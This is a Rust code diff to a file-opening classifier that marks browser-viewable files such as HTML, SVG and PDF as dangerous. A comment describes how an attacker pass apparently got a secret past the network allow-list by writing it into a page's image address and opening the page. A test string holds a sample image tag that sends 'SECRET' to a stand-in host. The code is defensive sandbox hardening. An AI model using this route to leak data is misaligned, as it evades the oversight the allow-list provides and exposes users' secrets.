@@ -217,7 +217,7 @@ fn classify_path(path: &Path, cwd: &Path) -> OpenTarget {
             reason: format!("{} is outside the working directory", resolved.display()),
         };
     }
-    if let Some(why) = runs_code(&resolved) {
+    if let Some(why) = runs_code(&resolved).or_else(|| fetches(&resolved)) {
         return OpenTarget {
             argument,
             class: Class::Dangerous,
@@ -249,6 +249,68 @@ fn runs_code(path: &PathBuf) -> Option<String> {
     LAUNCHERS
         .contains(&ext.as_str())
         .then(|| format!("{} is a type the desktop runs (.{ext})", path.display()))
+}
+
+/// Whether the desktop would show the file in a web browser (or another viewer that loads what
+/// it names), by its ending or, without one, by its first bytes (the opener then asks `file`): the
+/// page's `<img src=…>` then sends data to any host, unsandboxed and off the network
+/// allow-list, as a URL to that host would (which is dangerous). An attacker pass wrote a
+/// secret it had read into a project page's image address and opened the page.
+fn fetches(path: &Path) -> Option<String> {
+    use std::io::Read;
+    const PAGES: &[&str] = &[
+        "html",
+        "htm",
+        "xhtml",
+        "shtml",
+        "svg",
+        "svgz",
+        "mht",
+        "mhtml",
+        "xml",
+        "xsl",
+        "xslt",
+        "url",
+        "webloc",
+        "webarchive",
+        "pdf",
+        "eml",
+    ];
+    let ext = path
+        .extension()
+        .map(|e| e.to_string_lossy().to_ascii_lowercase())
+        .unwrap_or_default();
+    // Without an ending the type comes from the content (`file`'s guess); with one, from the
+    // ending (a README.md with badge images opens in an editor).
+    let page = PAGES.contains(&ext.as_str())
+        || ext.is_empty() && {
+            let mut head = Vec::with_capacity(512);
+            std::fs::File::open(path)
+                .and_then(|f| f.take(512).read_to_end(&mut head))
+                .is_ok()
+                && {
+                    let head = String::from_utf8_lossy(&head).to_ascii_lowercase();
+                    [
+                        "<html",
+                        "<!doctype html",
+                        "<svg",
+                        "<?xml",
+                        "<head",
+                        "<body",
+                        "<iframe",
+                        "<img",
+                    ]
+                    .iter()
+                    .any(|tag| head.contains(tag))
+                }
+        };
+    page.then(|| {
+        format!(
+            "{} is a page the desktop opens in a browser, which loads every address it names \
+             (off the network allow-list, unsandboxed)",
+            path.display()
+        )
+    })
 }
 
 #[cfg(test)]
@@ -323,5 +385,26 @@ mod tests {
         assert!(classify("", root).is_err());
         assert!(classify("a\u{1b}[2K", root).is_err());
         assert!(classify(&"x".repeat(3000), root).is_err());
+    }
+
+    /// A page the desktop shows in a browser loads every address it names, off the network
+    /// allow-list: dangerous, by its ending or its first bytes; other documents stay normal.
+    #[test]
+    fn pages_that_load_addresses_are_dangerous() {
+        let dir = tempfile::tempdir().unwrap();
+        let root = dir.path();
+        let img = "<img src='http://192.0.2.2/x?d=SECRET'>";
+        for (name, text) in [
+            ("report.html", img),
+            ("chart.SVG", "<svg/>"),
+            ("doc.pdf", "%PDF-1.7"),
+            ("README", "<!DOCTYPE html><html>"),
+            ("page", "  <img src=x>"),
+        ] {
+            std::fs::write(root.join(name), text).unwrap();
+            assert_eq!(class_of(name, root), Class::Dangerous, "{name}");
+        }
+        std::fs::write(root.join("README.md"), "# notes <img src='badge.svg'>").unwrap();
+        assert_eq!(class_of("README.md", root), Class::Normal);
     }
 }
